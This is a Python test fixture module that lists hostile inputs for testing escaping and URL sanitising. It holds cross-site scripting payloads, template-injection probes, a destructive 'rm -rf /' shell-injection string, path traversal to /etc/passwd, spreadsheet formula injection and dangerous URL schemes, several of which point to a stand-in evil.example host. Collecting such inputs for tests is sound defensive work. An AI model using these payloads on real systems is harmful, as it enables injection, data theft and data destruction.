"""Texts and addresses that somebody would type to make a page do something, one for each kind of attack we know.

Each was written for these tests; what it stands for is said beside it.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator

_ANYWHERE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",  # out of inline data
    "<!--<script>",  # into a comment that swallows the end of inline data
    "--><svg/onload=alert(1)>",
    "]]><script>alert(1)</script>",  # out of CDATA
    '"><img src=x onerror=alert(1)>',  # out of an attribute
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',  # another attribute
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1) `",
    "x onclick=alert(1)",  # out of an attribute without quotation marks
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",  # read in two ways
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "</title><script>alert(1)</script>",  # out of where no tags are read
    "</textarea></style></template><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<form action=//evil.example/><button formaction=javascript:alert(1)>",
    "<a href=javascript:alert(1)>hier</a>",
    "<div style='background:url(//evil.example/x)'>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",  # escaped already, to be unescaped once too often
    "&#60;script&#x3e;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",  # in an encoding that is none of ours
    "{{ 7 * 191 }}{% raw %}{# a #}",  # a template
    "{{ self.__init__.__globals__ }}",
    "${7*191} #{7*191} <%= 7*191 %>",
    "{0} {} {name} {0.__class__} %s %d %(name)s %n",  # holes of other ways to fill texts
    "\\1 \\g<0> \\n \\",  # those of regular expressions
    "BEGIN:VEVENT END:VCALENDAR X;Y=Z:1,2\\n",
    '"; rm -rf /; $(touch x) `touch x` | & ;',
    "../../../../etc/passwd",
    "💩 ÅÄÖ ẞ ǅ ﬃ ½ Ω≈ç√∫ 田中さん",  # letters beyond the usual
    "مرحبا שלום",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "[[grund]] [@grund] ![x](y.png) [x](javascript:alert(1)) <https://evil.example/>",  # marks of bodies
    "<x/onpointerrawupdate=alert(1)//",
    "<img srcset='x 1x, javascript:alert(1) 2x'><source srcset=//evil.example/x>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4=#x'/><foreignObject><body onload=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',  # mended into something else
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<table><style><a title='</style><img src onerror=alert(1)>'></table><select><svg onload=alert(1)>",
    "<noembed><noframes><xmp><plaintext><img src=x onerror=alert(1)>",
    "<p style='width:expression(alert(1));behavior:url(x);-moz-binding:url(x)'>",
    "＜script＞alert(1)＜/script＞ <ſcript>",  # letters that become others
    "*|*|alert(1)|* {%7*7%} [[${7*7}]] <#assign x=1> @{7*7} ~{x} #set($x=1)",  # templates of others
)
# What matters only at the beginning, or alone.
_ALONE = (
    '=HYPERLINK("http://evil.example","hier")',  # formulas
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",  # as spreadsheets of other languages read it
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "null",
    "__proto__",
    "constructor",
    "a" * 120 + "<b>",
)


def _together(texts: Iterable[str]) -> Iterator[str]:
    """Up to three in one text, as far as it fits into every field of a record: a site of them all is built and read in seconds."""
    some: list[str] = []
    for text in texts:
        if len(some) == 3 or (some and len(" ".join([*some, text])) > 200):
            yield " ".join(some)
            some = []
        some.append(text)
    yield " ".join(some)


TEXTS: tuple[str, ...] = (*_together(_ANYWHERE), *_ALONE)

# What YAML can write and nobody can see or type. Each may be refused; none may be shown.
UNSEEN: tuple[str, ...] = (
    "a\\x02L0\\x03b",  # the slots of a body
    "a\\0b",
    "a\\eb",
    "a\\u2028b",
    "a\\u2029b",
    "a\\x85b",
    "a\\r\\nBEGIN:VALARM",
    "a\\nEND:VEVENT",
    "a\\u202eb",
    "a\\ufffe\\uffffb",
    "a\\ud800b",
    "\\t=1+1",
    "\\u200b=1+1",
    "\\ufeff=1+1",
)

# Where an address is meant. None of them may lead anywhere, whatever a browser makes of it.
ADDRESSES: tuple[str, ...] = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "java\tscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&Tab;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript%3Aalert(1)",
    "%6Aavascript:alert(1)",
    " javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:https://example.org!/x",
    "data:text/html,x",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "vbscript:msgbox(1)",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "file:///etc/passwd",
    "ftp://example.org/",
    "tel:+495811234",
    "sms:+495811234",
    "intent://example.org#Intent;end",
    "ms-msdt:/id",
    "ms-word:ofe|u|https://example.org/x.docx",
    "about:blank",
    "//evil.example/x",
    "/\\evil.example",
    "\\\\evil.example\\x",
    "http:",
    "https://",
    "https://exa mple.org/",
    'https://example.org/"onclick=alert(1)',
    "https://example.org/<script>",
    "https://[",
    "https://[::1",
    "https://[x]/",
    "https://example.org]/",
    "https://exam℀ple.org/",  # letters that become a slash
    "https://example.org:port/",
    "https:///x",
    "https://?x",
    "https://user:word@example.org/",
)
